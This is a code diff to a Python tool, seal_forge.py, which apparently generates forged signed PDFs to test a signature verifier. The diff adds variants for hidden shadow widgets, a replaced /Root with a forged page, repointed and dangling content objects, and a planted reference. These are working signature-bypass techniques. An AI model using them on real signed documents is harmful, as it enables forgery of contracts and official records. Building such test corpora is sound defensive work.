@@ -10,6 +10,12 @@ page is object 3 and whose catalog is object 1), as an attacker would after the 
   stamp        a /Stamp annotation with an appearance, in /Annots
   content      the page's content stream replaced
   empty-field  an unsigned signature field with no appearance (allowed: an empty field to sign later)
+  hidden       the shadow widget flagged Hidden (allowed: it shows nothing, on screen or paper)
+  noview-print the shadow widget flagged NoView but Print (not on screen, but on paper)
+  root         a new catalog and page tree with a forged page, named by the trailer's /Root
+  repoint      object 4 (the page content) pointed back at its older body in the same file
+  plant        (before sealing) the page's /Contents also names object 500, which does not exist
+  dangling     object 500 created, which the signed page's /Contents already named (planted)
   size         (for stamping, not verifying) the trailer's /Size set to 2147483647
 
 usage: seal_forge.py VARIANT IN.pdf OUT.pdf
@@ -50,15 +56,17 @@ def appearance():
     return new(b'<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 %s >> >> '
                b'/Length %d >>\nstream\n%s\nendstream' % (f, len(cover), cover))
 
-if variant in ('shadow', 'shadow-nofields', 'replay', 'empty-field'):
+root = b'1 0 R'
+if variant in ('shadow', 'shadow-nofields', 'replay', 'empty-field', 'hidden', 'noview-print'):
     extra = b''
     if variant == 'replay':
         sig = re.search(rb'/V (\d+ 0 R)', d).group(1)  # the first seal's signature dictionary
         extra = b' /V ' + sig
     ap = b'' if variant == 'empty-field' else b' /AP << /N %s >>' % appearance()
     rect = b'[0 0 0 0]' if variant == 'empty-field' else b'[0 0 595 842]'
-    w = new(b'<< /Type /Annot /Subtype /Widget /FT /Sig /T (Forged%d) /F 4 /P 3 0 R /Rect %s%s%s >>'
-            % (nxt, rect, ap, extra))
+    flags = {'hidden': 2 | 4, 'noview-print': 32 | 4}.get(variant, 4)
+    w = new(b'<< /Type /Annot /Subtype /Widget /FT /Sig /T (Forged%d) /F %d /P 3 0 R /Rect %s%s%s >>'
+            % (nxt, flags, rect, ap, extra))
     objs[3] = append_ref(page, rb'/Annots', w)
     if variant != 'shadow-nofields':
         af = int(re.search(rb'/AcroForm (\d+) 0 R', latest(1)).group(1))
@@ -70,14 +78,33 @@ elif variant in ('freetext', 'stamp'):
 elif variant == 'content':
     c = int(re.search(rb'/Contents (\d+) 0 R', page).group(1))
     objs[c] = b'<< /Length %d >>\nstream\n%s\nendstream' % (len(cover), cover)
+elif variant == 'root':
+    c = new(b'<< /Length %d >>\nstream\n%s\nendstream' % (len(cover), cover))
+    f = new(font)
+    pg, pages = nxt, nxt + 1
+    nxt += 2
+    objs[pg] = b'<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %s /Resources << /Font << /F1 %s >> >> >>' % (pages, c, f)
+    objs[pages] = b'<< /Type /Pages /Kids [%d 0 R] /Count 1 >>' % pg
+    root = new(re.sub(rb'/Pages \d+ 0 R', b'/Pages %d 0 R' % pages, latest(1)))
+elif variant == 'repoint':
+    first = re.search(rb'(?:^|\n)(4 0 obj)', d).start(1)
+    objs[4] = None  # an xref entry only: the first body of object 4
+    offs_override = {4: first}
+elif variant == 'plant':
+    objs[3] = re.sub(rb'/Contents (\d+ 0 R)', rb'/Contents [\1 500 0 R]', page)
+elif variant == 'dangling':
+    objs[500] = b'<< /Length %d >>\nstream\n%s\nendstream' % (len(cover), cover)
+    nxt = max(nxt, 501)
 elif variant == 'size':
     pass
 else:
     sys.exit('unknown variant ' + variant)
 
 out = bytearray(d if d.endswith(b'\n') else d + b'\n')
-offs = {}
+offs = dict(globals().get('offs_override', {}))
 for n in sorted(objs):
+    if objs[n] is None:
+        continue
     offs[n] = len(out)
     out += b'%d 0 obj\n' % n + objs[n] + b'\nendobj\n'
 x = len(out)
@@ -87,5 +114,5 @@ if not objs:
 for n in sorted(objs):
     out += b'%d 1\n%010d 00000 n \n' % (n, offs[n])
 total = 2147483647 if variant == 'size' else max(nxt, size)
-out += b'trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n' % (total, prev, x)
+out += b'trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n' % (total, root, prev, x)
 open(dst, 'wb').write(out)
